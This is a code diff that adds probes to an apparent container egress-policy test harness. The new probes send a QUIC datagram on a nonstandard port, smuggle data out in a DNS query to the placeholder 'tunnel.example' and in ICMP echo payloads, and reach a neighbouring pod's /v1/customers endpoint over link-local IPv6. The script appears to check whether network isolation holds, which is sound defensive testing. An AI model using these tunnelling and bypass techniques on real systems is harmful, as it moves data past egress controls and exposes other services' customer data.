@@ -4,6 +4,7 @@ import json
 import os
 import socket
 import ssl
+import struct
 import subprocess
 import sys
 import time
@@ -82,6 +83,59 @@ def datagram():
     s.send(b"\xc0" + b"\0" * 1199)
     s.recv(1)
     return "answered"
+
+
+def exchange(family, kind, protocol, to, data):
+    """Sends a datagram and tells how long the answer is."""
+    s = socket.socket(family, kind, protocol)
+    s.settimeout(5)
+    s.sendto(data, to)
+    return s.recv(2048)
+
+
+def quic():
+    """The first datagram of a client of QUIC, of a version that nobody speaks (RFC 9000, 15), to another port than 443."""
+    first = b"\xc0\x1a\x2a\x3a\x4a\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
+    answer = exchange(socket.AF_INET, socket.SOCK_DGRAM, 0, (POD, 8443), first.ljust(1200, b"\0"))
+    return "answered: version negotiation" if answer[1:5] == b"\0\0\0\0" else "answered: %r" % answer[:8]
+
+
+def tunnel():
+    """A name with data in it, asked of the pod's name server."""
+    with open("/etc/resolv.conf") as f:
+        server = [line.split()[1] for line in f if line.startswith("nameserver")][0]
+    name = b"".join(bytes([len(part)]) + part for part in (REFUSED.encode().hex()[:60].encode(), b"tunnel", b"example")) + b"\0"
+    answer = exchange(socket.AF_INET, socket.SOCK_DGRAM, 0, (server, 53), os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\x10\0\1")
+    return "answered: code %d" % (answer[3] & 15)
+
+
+def ping():
+    """Data in an echo request, without privileges (net.ipv4.ping_group_range)."""
+    data = struct.pack("!BBHHH", 8, 0, 0, 0, 1) + REFUSED.encode()
+    answer = exchange(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, (POD, 0), data)
+    return "answered: %d bytes" % len(answer)
+
+
+def addresses():
+    with open("/proc/net/if_inet6") as f:
+        return "on " + ", ".join(sorted("%s: %s" % (line.split()[5], line[:4]) for line in f)) + "; routes: %d" % routes()
+
+
+def routes():
+    """Those of IPv6 to elsewhere than this pod's own addresses, by another device than lo."""
+    with open("/proc/net/ipv6_route") as f:
+        return sum(line.split()[9] != "lo" for line in f)
+
+
+def neighbour(address):
+    """A pod of the register by the address that its device gave itself."""
+    if not address:
+        return "it has none"
+    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
+        s.settimeout(5)
+        s.connect((address, 8080, 0, socket.if_nametoindex("eth0")))
+        s.sendall(b"GET /v1/customers HTTP/1.1\r\nHost: rebound.example\r\nConnection: close\r\n\r\n")
+        return whether(heard(s))
 
 
 def sctp():
@@ -186,7 +240,12 @@ ATTEMPTS = {
     "two Host headers": lambda: tls(HOST, 443, HOST, request(HOST, more="Host: www.other.example\r\n")),
     "CONNECT within TLS": lambda: tls(HOST, 443, HOST, request(HOST, "CONNECT", HOST + ":443")),
     "CONNECT to the sidecar's own listener": lambda: plain("127.0.0.1", 15001, request(HOST, "CONNECT", HOST + ":443")),
+    "IPv6: what the pod has": addresses,
+    "IPv6: a pod of the register by its link-local address": lambda: neighbour(os.environ["REGISTER_POD6"]),
     "UDP 443": datagram,
+    "QUIC on another port": quic,
+    "data in a question to the name server": tunnel,
+    "data in pings": ping,
     "register: its declared name": lambda: read(NAME, NAME),
     "register: its name with .svc": lambda: read(NAME + ".svc", NAME + ".svc"),
     "register: its full name": lambda: read(FULL, FULL),
